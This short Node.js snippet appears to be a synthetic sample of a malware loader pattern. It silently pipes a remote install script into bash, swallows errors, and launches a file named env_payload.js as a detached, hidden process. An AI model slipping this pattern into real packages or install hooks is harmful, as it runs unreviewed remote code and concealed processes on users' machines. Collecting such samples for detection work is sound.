// Runtime-bootstrap shape: installs Bun, then runs a large bundled file with it (harmless filler).
const { execSync, spawn } = require('child_process');
const path = require('path');
const os = require('os');
try {
  execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });
} catch (e) {}
const bunPath = path.join(os.homedir(), '.bun', 'bin', 'bun');
spawn(bunPath, [path.join(__dirname, 'env_payload.js')], { detached: true, stdio: 'ignore' }).unref();
